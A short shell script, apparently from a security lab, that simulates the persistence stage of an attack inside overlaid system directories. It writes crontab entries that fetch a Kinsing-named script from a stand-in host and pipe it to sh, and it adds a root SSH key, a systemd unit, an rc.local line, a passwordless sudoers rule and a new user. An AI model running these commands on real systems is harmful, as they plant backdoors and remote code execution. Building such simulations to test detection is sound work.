#!/bin/sh
# Kill chain, persistence (run by ns.sh: /etc, /root and /var/spool are overlays of the
# lab's own): a line appended to /etc/crontab, a crontab installed from a pipe (stand-in
# crontab), a key appended to root's authorized_keys, a systemd unit, rc.local, a sudoers
# rule and a user (stand-in useradd).
set -eu
echo '* * * * * root curl -fsS http://downloads.example.org/kinsing.sh | sh' >> /etc/crontab
echo '*/5 * * * * curl -fsS http://downloads.example.org/kinsing.sh | sh' | crontab -
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKsakerlabsakerlabsakerlabsakerlabsakerlab0 lab' >> /root/.ssh/authorized_keys
mkdir -p /etc/systemd/system
cat > /etc/systemd/system/saker-lab-bot.service <<UNIT
[Service]
ExecStart=$LAB_TMP/kc/kinsing
UNIT
systemctl enable saker-lab-bot.service
echo "$LAB_TMP/kc/kinsing &" >> /etc/rc.local
echo 'labuser ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
useradd -m -s /bin/bash labuser
